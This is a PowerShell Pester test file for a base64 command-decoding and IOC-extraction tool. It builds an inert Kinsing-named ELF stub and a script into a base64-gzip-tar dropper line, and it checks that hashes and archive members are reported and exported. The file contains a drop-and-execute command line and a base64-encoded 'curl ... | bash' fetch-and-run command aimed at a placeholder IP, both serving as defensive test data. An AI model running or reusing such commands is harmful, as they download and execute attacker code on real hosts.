# A dropped binary delivered as base64 > gzip > tar (the Docker API attack shape): FileType, Size and the hashes show in
# the views and go through Export-Csv and ConvertTo-Json; members are listed; Find-B64Ioc emits their SHA-256.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force

    # A minimal ELF header (64-bit, little-endian, executable, x86-64) and a shell script, in a gzipped tar.
    $elf = [byte[]]::new(200)
    $elf[0] = 0x7f; $elf[1] = [byte][char]'E'; $elf[2] = [byte][char]'L'; $elf[3] = [byte][char]'F'
    $elf[4] = 2; $elf[5] = 1; $elf[6] = 1; $elf[16] = 2; $elf[18] = 0x3e
    for ($i = 64; $i -lt $elf.Length; $i++) { $elf[$i] = [byte](($i * 7) % 256) }
    $script:ElfSha256 = [Convert]::ToHexString([Security.Cryptography.SHA256]::HashData($elf)).ToLowerInvariant()
    $script_ = [Text.Encoding]::UTF8.GetBytes("#!/bin/sh`n/tmp/kinsing &`n")

    $tar = [IO.MemoryStream]::new()
    $writer = [System.Formats.Tar.TarWriter]::new($tar, [System.Formats.Tar.TarEntryFormat]::Ustar, $true)
    foreach ($m in @(@('kinsing', $elf), @('run.sh', $script_))) {
        $entry = [System.Formats.Tar.UstarTarEntry]::new([System.Formats.Tar.TarEntryType]::RegularFile, $m[0])
        $entry.DataStream = [IO.MemoryStream]::new([byte[]]$m[1])
        $writer.WriteEntry($entry)
    }
    $writer.Dispose()
    $gz = [IO.MemoryStream]::new()
    $zip = [IO.Compression.GZipStream]::new($gz, [IO.Compression.CompressionLevel]::Optimal, $true)
    $zip.Write($tar.ToArray(), 0, $tar.Length); $zip.Dispose()
    $script:Line = 'echo ' + [Convert]::ToBase64String($gz.ToArray()) + ' | base64 -d | tar xz -C /tmp && sh /tmp/run.sh'
    $script:Events = @($Line | Get-B64Command)
    $script:Archive = $Events | Where-Object Depth -eq 0
}

Describe 'Binary payloads and archives' {
    It 'decodes base64 > gzip > tar and lists the members' {
        $Archive.DecodeChain -join '>' | Should -Be 'base64>gzip>tar'
        $Archive.FileType | Should -Be 'tar'
        $Archive.IsBinary | Should -BeTrue
        $Archive.ArchiveMembers.Name | Should -Be @('kinsing', 'run.sh')
        $Archive.ArchiveMembers[0].FileType | Should -Be 'ELF 64-bit LSB executable, x86-64'
        $Archive.ArchiveMembers[0].Sha256 | Should -Be $ElfSha256
        $member = $Events | Where-Object ArchiveMemberName -eq 'run.sh'
        $member.DecodedCommand | Should -Be "#!/bin/sh`n/tmp/kinsing &`n"
        $member.Depth | Should -Be 1
    }
    It 'shows FileType, Size, the hashes and the members in the list view' {
        $text = $Archive | Format-List | Out-String -Width 300
        $text | Should -Match '(?m)^FileType\s+: tar'
        $text | Should -Match "(?m)^Size\s+: $($Archive.Size)"
        $text | Should -Match "(?m)^Sha256\s+: $($Archive.Sha256)"
        $text | Should -Match "(?m)^Md5\s+: [0-9a-f]{32}"
        $text | Should -Match "kinsing \(ELF 64-bit LSB executable, x86-64, 200 bytes, sha256 $ElfSha256\)"
        $text | Should -Not -Match "`e"
        $members = $Archive.ArchiveMembers | Format-Table | Out-String -Width 200
        $members | Should -Match "kinsing\s+200 ELF 64-bit LSB executable, x86-64\s+$ElfSha256"
    }
    It 'keeps the text views free of these fields for a text payload' {
        $text = 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash' | Get-B64Command | Format-List | Out-String
        $text | Should -Not -Match '(?m)^(FileType|Sha256|ArchiveMembers)\s+:'
    }
    It 'exports FileType and the hashes with Export-Csv' {
        $csv = Join-Path $TestDrive 'events.csv'
        $Archive | Select-Object FileType, Size, Md5, Sha1, Sha256 | Export-Csv $csv
        $row = Import-Csv $csv
        $row.FileType | Should -Be 'tar'
        $row.Size | Should -Be "$($Archive.Size)"
        $row.Sha256 | Should -Be $Archive.Sha256
        $row.Sha1 | Should -Match '^[0-9a-f]{40}$'
        $all = Join-Path $TestDrive 'all.csv'
        $Archive | Export-Csv -Path $all
        (Import-Csv $all).Sha256 | Should -Be $Archive.Sha256   # the whole event exports its hashes as plain columns
    }
    It 'exports the members with ConvertTo-Json' {
        $json = $Archive | ConvertTo-Json -Depth 4 | ConvertFrom-Json
        $json.FileType | Should -Be 'tar'
        $json.Sha256 | Should -Be $Archive.Sha256
        $json.ArchiveMembers[0].Name | Should -Be 'kinsing'
        $json.ArchiveMembers[0].Sha256 | Should -Be $ElfSha256
    }
    It 'gives Find-B64Ioc the SHA-256 of the archive and of each member' {
        $hashes = $Events | Find-B64Ioc -Expand -IocType sha256_hash
        $hashes.Normalized | Should -Contain $ElfSha256
        $hashes.Normalized | Should -Contain $Archive.Sha256
        ($hashes | Where-Object Normalized -eq $ElfSha256).Event.FileType | Should -Be 'tar'
    }
}
